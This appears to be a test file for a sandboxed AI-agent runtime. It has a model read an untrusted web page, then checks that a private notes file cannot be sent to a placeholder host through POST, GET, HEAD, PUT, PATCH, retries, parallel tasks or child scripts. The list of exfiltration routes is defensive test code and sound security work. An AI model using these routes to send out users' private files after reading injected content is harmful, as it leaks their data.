// allow: read=. write=out/ net=SITE state=team
// taint: deny
// Once a model has read what a stranger wrote, nothing private leaves: not by another verb, another spell, or what was kept.
const page = (await Http.get("http://SITE/page")).text;
let within;
await ask(`What does this say? ${page}`, { on_text: async () => {
  const note = await Fs.read("notes/a.txt");
  within ??= await attempt(() => Http.post("http://SITE/out", { body: note }));
} });
if (within === undefined || within.ok) fail("from within the answer");
const note = await Fs.read("notes/a.txt");
const ways = {
  post: () => Http.post("http://SITE/out", { body: note }),
  get: () => Http.get(`http://SITE/out?x=${note.length}`),
  head: () => Http.head("http://SITE/out", { headers: { x: note } }),
  put: () => Http.put("http://SITE/out", { json: [note] }),
  request: () => Http.request("patch", "http://SITE/out", { body: note }),
  caught: async () => { try { await Http.post("http://SITE/out", { body: note }); } catch {} return Http.post("http://SITE/out", { body: note }); },
  spawned: () => parallel([() => Http.post("http://SITE/out", { body: note })]),
  child: () => Run.spell("sends", { note, url: "http://SITE/out" }),
  narrowed: () => Run.spell("sends", { note, url: "http://SITE/out" }, { allow: { net: ["SITE"] } }),
};
for (const [name, fn] of Object.entries(ways)) if ((await attempt(fn)).ok) fail(name);
export default "contained";
